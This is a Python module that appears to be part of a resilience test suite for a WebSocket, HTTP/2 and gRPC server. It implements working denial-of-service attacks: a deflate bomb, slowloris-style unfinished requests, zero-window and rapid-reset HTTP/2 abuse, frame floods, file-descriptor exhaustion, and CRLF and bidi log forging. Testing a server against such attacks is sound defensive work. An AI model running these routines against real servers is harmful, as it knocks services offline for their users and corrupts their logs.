"""The kinds of attacks.

Each function attacks a server until a deadline, and returns the connections that it still holds.
"""

import contextlib
import os
import struct
import time
import zlib

import wire
from wire import Disconnected

GRPC = "/sockeye.demo.v1.Demo/SayHello"


def _reconnecting(attack):
    """Repeats the attack on a new connection whenever the server closes one."""

    def retrying(server, deadline):
        while time.monotonic() < deadline:
            with contextlib.suppress(Disconnected, OSError):
                return attack(server, deadline)
            time.sleep(0.01)
        return None

    return retrying


# Memory: messages and requests that never end.


def _deflated(length):
    """Returns the beginning of a message that inflates to a thousand times its length: zeros."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = bytearray()
    while len(packed) < length:
        packed += compressor.compress(bytes(1 << 20))
        packed += compressor.flush(zlib.Z_SYNC_FLUSH)
    return bytes(packed[:length])


DEFLATED = _deflated(15_300)


def unfinished_deflated(count):
    """Each connection sends 15,300 bytes, the first frame of a message that inflates to 15 MB."""

    def attack(server, _):
        offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
        connections = []
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.websocket(server, extra=offer)
                stream.sendall(wire.ws_frame(2, DEFLATED, fin=False, compressed=True))
                connections.append(stream)
        return connections

    return attack


def unfinished_messages(count, length=8 << 20):
    """Each connection sends a long message except for its last byte."""

    def attack(server, deadline):
        connections = []
        data = wire.ws_frame(2, bytes(length - 1), length=length)
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.websocket(server)
                connections.append(stream)
                wire.write_until(stream, data, deadline)
        return connections

    return attack


def unfinished_heads(count, length=60_000):
    """Each connection sends nearly all of the longest request head that the server accepts."""

    def attack(server, deadline):
        connections = []
        data = wire.head(server, "/", b"x: " + b"a" * length)[:-4]
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.dial(server)
                connections.append(stream)
                wire.write_until(stream, data, deadline)
        return connections

    return attack


def idle_websockets(count):
    """Each connection opens a WebSocket and reads nothing."""

    def attack(server, _):
        connections = []
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                connections.append(wire.websocket(server))
        return connections

    return attack


def unread_echoes(count, seconds_each=0.5):
    """Each connection sends messages for as long as the server accepts them, and reads no echo."""

    def attack(server, deadline):
        connections = []
        data = wire.ws_frame(2, bytes(64 << 10)) * 64
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.websocket(server)
                connections.append(stream)
                wire.write_until(stream, data, min(deadline, time.monotonic() + seconds_each), read=False)
        return connections

    return attack


def silent_pages(count, seconds_each=0.3):
    """Each connection requests a page many times, reads nothing and then stays idle."""

    def attack(server, deadline):
        connections = []
        data = wire.head(server, "/app.js") * 5_000
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.dial(server, "http/1.1")
                connections.append(stream)
                wire.write_until(stream, data, min(deadline, time.monotonic() + seconds_each), read=False)
        return connections

    return attack


# HTTP/2.


def silent_answers(count):
    """Each connection requests 100 pages over HTTP/2, and opens no flow-control window for them."""

    def attack(server, deadline):
        connections = []
        data = wire.settings(window=0)
        data += b"".join(wire.get(stream, "/app.js") for stream in range(1, 200, 2))
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.dial(server, "h2")
                connections.append(stream)
                wire.write_until(stream, data, deadline)
        return connections

    return attack


def zero_window_websockets(count, streams=100, seconds_each=2):
    """Each connection opens 100 WebSockets over HTTP/2, and sends with their windows closed."""

    def attack(server, deadline):
        connections = []
        message = wire.ws_frame(2, bytes(16_000))
        for _ in range(count):
            with contextlib.suppress(Disconnected, OSError):
                stream = wire.dial(server, "h2")
                connections.append(stream)
                # One byte is not enough for any echo, and a window of 0 allows none at all.
                data = wire.settings(window=0)
                ids = range(1, 2 * streams, 2)
                data += b"".join(wire.connect(stream_id) for stream_id in ids)
                for _ in range(16):
                    data += b"".join(wire.frame(wire.DATA, stream=stream_id, payload=message) for stream_id in ids)
                wire.write_until(stream, data, min(deadline, time.monotonic() + seconds_each))
        return connections

    return attack


@_reconnecting
def window_resets(server, deadline):
    """Repeatedly opens 99 streams on an exhausted connection window and resets them.

    Before the reset, the attacker waits up to a second for the server to answer each stream, whose
    body the window blocks.
    """
    stream = wire.dial(server, "h2")
    frames, answered = wire.Frames(), set()

    def on_data(data):
        for kind, _, stream_id, _ in frames.feed(data):
            if kind == wire.HEADERS:
                answered.add(stream_id)
            elif kind == wire.GOAWAY:
                raise Disconnected

    wire.write_until(stream, wire.settings(window=(1 << 31) - 1), deadline, on_data)
    # The first responses exhaust the connection's window of 65,535 bytes, which is never opened
    # again.
    next_id = 1
    while time.monotonic() < deadline:
        ids = range(next_id, next_id + 198, 2)
        next_id += 198
        answered.clear()
        wire.write_until(stream, b"".join(wire.get(stream_id, "/style.css") for stream_id in ids), deadline, on_data)
        answer_deadline = time.monotonic() + 1
        while len(answered) < len(ids) and time.monotonic() < min(deadline, answer_deadline):
            time.sleep(0.001)
            on_data(wire.receive(stream))
        wire.write_until(stream, b"".join(wire.reset(stream_id) for stream_id in ids), deadline, on_data)
    return stream


@_reconnecting
def rapid_resets(server, deadline):
    """Opens streams and resets them at once."""
    stream = wire.dial(server, "h2")
    wire.write_until(stream, wire.settings(window=65_535), deadline)
    next_id = 1
    while time.monotonic() < deadline:
        ids = range(next_id, next_id + 400, 2)
        next_id += 400
        frames = b"".join(wire.get(stream_id, "/") + wire.reset(stream_id) for stream_id in ids)
        wire.write_until(stream, frames, deadline)
    return stream


@_reconnecting
def grpc_resets(server, deadline):
    """Opens gRPC calls and resets them at once, over HTTP/2 within a WebSocket."""
    stream = wire.websocket(server, "/grpc")
    wire.write_until(stream, wire.ws_frame(2, wire.settings(window=65_535)), deadline)
    next_id = 1
    extra = [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    while time.monotonic() < deadline:
        ids = range(next_id, next_id + 400, 2)
        next_id += 400
        calls = b"".join(
            wire.request(stream_id, b"POST", GRPC, b"localhost", extra, end=False) + wire.reset(stream_id)
            for stream_id in ids
        )
        wire.write_until(stream, wire.ws_frame(2, calls), deadline)
    return stream


def _http2_flood(data):
    @_reconnecting
    def attack(server, deadline):
        stream = wire.dial(server, "h2")
        wire.write_until(stream, wire.settings(window=65_535), deadline)
        while time.monotonic() < deadline:
            wire.write_until(stream, data, deadline)
        return stream

    return attack


# One byte of window in each frame, on the connection: as many as possible before the window
# overflows.
window_updates = _http2_flood(wire.frame(wire.WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 10_000)
unknown_frames = _http2_flood(wire.frame(0xFA, payload=b"") * 20_000)
http2_pings = _http2_flood(wire.frame(wire.PING, payload=bytes(8)) * 10_000)
http2_settings = _http2_flood(wire.frame(wire.SETTINGS) * 20_000)


# Time: connections that the server never closes.


def _websocket_flood(data):
    @_reconnecting
    def attack(server, deadline):
        stream = wire.websocket(server)
        while time.monotonic() < deadline:
            wire.write_until(stream, data, deadline)
        return stream

    return attack


empty_messages = _websocket_flood(wire.ws_frame(2) * 50_000)
empty_fragments = _websocket_flood(wire.ws_frame(2, fin=False) + wire.ws_frame(0, fin=False) * 50_000)
pings = _websocket_flood(wire.ws_frame(9) * 50_000)
pongs = _websocket_flood(wire.ws_frame(10) * 50_000)


@_reconnecting
def pipelined_requests(server, deadline):
    """Requests small pages without a pause."""
    stream = wire.dial(server, "http/1.1")
    data = wire.head(server, "/healthz") * 1_000
    while time.monotonic() < deadline:
        wire.write_until(stream, data, deadline)
    return stream


def slow_messages(count, answer_pings=False):
    """Each connection sends one byte per second of a message, in one frame or as fragments.

    The attacker answers pings or ignores them.
    """

    def attack(server, deadline):
        connections = []
        for index in range(count):
            stream = wire.websocket(server)
            stream.sendall(wire.ws_frame(2, b"", length=1 << 20) if index % 2 else wire.ws_frame(2, b"x", fin=False))
            connections.append(stream)
        open_connections = dict(enumerate(connections))
        while open_connections and time.monotonic() < deadline:
            time.sleep(1)
            for index, stream in list(open_connections.items()):
                try:
                    stream.setblocking(False)
                    pinged = b"\x89" in wire.receive(stream)
                    if pinged and answer_pings and index % 2 == 0:
                        stream.send(wire.ws_frame(10))
                    stream.send(b"x" if index % 2 else wire.ws_frame(0, b"x", fin=False))
                except (Disconnected, OSError):
                    del open_connections[index]
        # The remaining connections are those that the server never closed.
        os.write(server.survivor_pipe[1], b"x" * len(open_connections))
        return connections

    return attack


def descriptors(count):
    """Opens more connections than the server has file descriptors."""

    def attack(server, deadline):
        connections = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                connections.append(wire.dial(server, timeout=1))
        time.sleep(max(0, deadline - time.monotonic()))
        return connections

    return attack


def forged_log(server, _):
    """Closes with a reason that forges a line of the log, and requests paths that forge others."""
    stream = wire.websocket(server)
    reason = "bye\r\nFORGED \u2028\u202e".encode()
    stream.sendall(wire.ws_frame(8, struct.pack(">H", 1000) + reason))
    stream.recv(100)
    for field in (b"Origin: https://a\x0aFORGED", b"Origin: https://\xe2\x80\xae.example"):
        other = wire.dial(server)
        other.sendall(wire.upgrade_head(server, extra=field + b"\r\n"))
        other.recv(1000)
    return stream
